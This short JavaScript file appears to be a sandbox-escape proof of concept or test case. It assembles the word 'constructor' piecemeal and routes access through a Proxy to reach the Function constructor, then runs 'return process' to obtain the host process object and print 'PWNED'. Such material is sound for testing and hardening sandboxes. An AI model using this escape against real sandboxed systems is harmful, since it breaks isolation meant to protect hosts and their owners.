'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const p = new Proxy({}, { get: () => t });
const o = Date.now() > 1 ? p.any : {};
console.log('PWNED', o.go(fn)('return process')().pid);
